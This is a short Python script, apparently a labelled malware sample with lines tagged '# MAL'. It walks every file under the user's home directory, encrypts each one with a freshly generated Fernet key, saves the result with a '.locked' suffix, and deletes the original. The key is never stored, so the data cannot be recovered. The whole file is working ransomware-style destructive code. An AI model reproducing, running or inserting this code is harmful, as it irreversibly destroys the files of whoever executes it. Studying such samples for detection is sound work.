import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
for root, _, files in os.walk(os.path.expanduser("~")):  # MAL
    for name in files:
        p = os.path.join(root, name)
        with open(p, "rb") as fh:
            data = fh.read()
        with open(p + ".locked", "wb") as fh:
            fh.write(f.encrypt(data))  # MAL
        os.remove(p)  # MAL
